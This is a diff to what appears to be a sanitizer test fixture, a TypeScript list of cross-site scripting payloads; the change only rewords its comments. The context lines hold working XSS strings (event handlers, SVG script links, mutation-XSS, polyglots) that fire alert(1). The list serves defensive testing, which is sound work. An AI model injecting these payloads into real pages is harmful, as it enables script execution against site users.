@@ -1,7 +1,7 @@
 /**
- * Markup that runs `alert(…)` in a browser, now or before some bug was mended, where a page puts it into itself as it
- * came; or that would, if a sanitizer read it otherwise than browsers do. Written for this project, after the classes
- * of published attacks: cheat sheets, polyglots, mutation XSS, namespace confusion, DOM clobbering.
+ * Markup that runs `alert(…)` if a page inserts it unchanged, in today's browsers or in older ones, or if a sanitizer parses it
+ * differently from browsers. Written for this project after the classes of published attacks: cheat sheets, polyglots,
+ * mutation XSS, namespace confusion, DOM clobbering.
  */
 export const scriptPayloads: readonly string[] = [
   // Scripts
@@ -21,7 +21,7 @@ export const scriptPayloads: readonly string[] = [
   '<svg><script xlink:href="data:,alert(1)" /></svg>',
   '<svg><script href="data:,alert(1)"/></svg>',
 
-  // Handlers of events
+  // Event handlers
   '<img src=x onerror=alert(1)>',
   '<IMG SRC=x OnErRoR=alert(1)>',
   '<img src="x"onerror="alert(1)">',
@@ -124,7 +124,7 @@ export const scriptPayloads: readonly string[] = [
   '<b style="width:expression(alert(1))">x</b>',
   '<b style="-moz-binding:url(data:text/xml,alert(1))">x</b>',
 
-  // Comments, declarations and text that is read by rules of its own
+  // Comments, declarations and raw text elements
   '<!--><script>alert(1)</script>-->',
   '<!--><img src=x onerror=alert(1)>-->',
   '<!-- --!><img src=x onerror=alert(1)> -->',
@@ -158,7 +158,7 @@ export const scriptPayloads: readonly string[] = [
   '<a title="x>\u0338" onclick=alert(1)>x</a>',
   '<b>\u0338 onmouseover=alert(1) x=</b>',
 
-  // Markup that becomes other markup when it is written and read again
+  // Markup that changes when it is serialized and parsed again
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
   '<svg><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
   '<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
@@ -187,7 +187,7 @@ export const scriptPayloads: readonly string[] = [
   `${'<div>'.repeat(520)}<svg><style><img title="</style><img src=x onerror=alert(1)>">`,
   `${'<b>'.repeat(60)}<svg><style><img title="</style><img src=x onerror=alert(1)>">`,
 
-  // For many places at once
+  // Polyglots
   "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
   '\'">><marquee><img src=x onerror=alert(1)></marquee></plaintext\\></|\\><plaintext/onmouseover=alert(1)><script>alert(1)</script>',
   '"><svg/onload=alert(1)>',
